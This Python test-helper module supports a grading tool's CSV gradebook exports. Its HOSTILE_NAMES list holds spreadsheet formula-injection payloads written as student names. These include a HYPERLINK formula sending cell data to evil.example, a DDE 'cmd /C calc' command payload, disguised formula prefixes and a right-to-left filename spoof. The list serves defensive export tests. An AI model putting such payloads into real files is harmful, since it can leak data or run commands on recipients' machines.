"""Classes and sheets as the tests of the exports need them."""

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from grader.records.attempt import Student
from grader.records.finding_report import FindingSummary
from grader.records.gradebook import ClassReport, Row
from grader.records.graded_with import DeckInfo

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Doe, Jane")',
    "+49 170 1234567",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",  # noqa: RUF001  wide on purpose
    'Doe, "Jane"; the\nsecond',
    "evil\u202etxt.py",
    "'=1+1",
)


def student(key: str, name: str = "", **ids: str) -> Student:
    return Student(key=key, name=name or key, ids=ids)


def graded(who: Student, earned: int, possible: int = 100, **changes: Any) -> Row:
    """A row of two checks."""
    first = min(earned, possible // 2)
    return Row(
        student=who,
        standing="graded",
        points={"pad/basic": first, "conv2d/stride": earned - first},
        possible={"pad/basic": possible // 2, "conv2d/stride": possible - possible // 2},
        **changes,
    )


def told(
    headline: str, check: str = "conv2d/stride", points: int = 0, **changes: Any
) -> FindingSummary:
    """A finding of one check."""
    given = {"checks": (check,), "points": points, "explained": True, **changes}
    operation = check.partition("/")[0]
    return FindingSummary(operation=operation, headline=headline, verdict="wrong value", **given)


STRIDE = told("Your window moves one cell at a time", points=5)
AXES = told("Your code pads rows", "pad/axes", 2, certain=False, explained=False)
"""What two findings are told as, of which one is sure."""


def class_of(*rows: Row) -> ClassReport:
    return ClassReport(
        title="CNN operations by hand",
        deck=DeckInfo(kind="final", digest="0" * 64, cases=540),
        checks={"pad/basic": "pads", "conv2d/stride": "strides"},
        rows=rows,
        pages={},
    )


def csv_of(
    lines: Iterable[Sequence[object]], delimiter: str = ",", end: str = "\r\n", *, bom: bool = False
) -> bytes:
    text = "".join(_line_of(line, delimiter) + end for line in lines)
    return text.encode("utf-8-sig" if bom else "utf-8")


def _line_of(line: Sequence[object], delimiter: str) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerow(line)
    return text.getvalue().removesuffix("\r\n")


def table_of(content: bytes, delimiter: str = ",") -> list[list[str]]:
    """A file as Python reads it."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
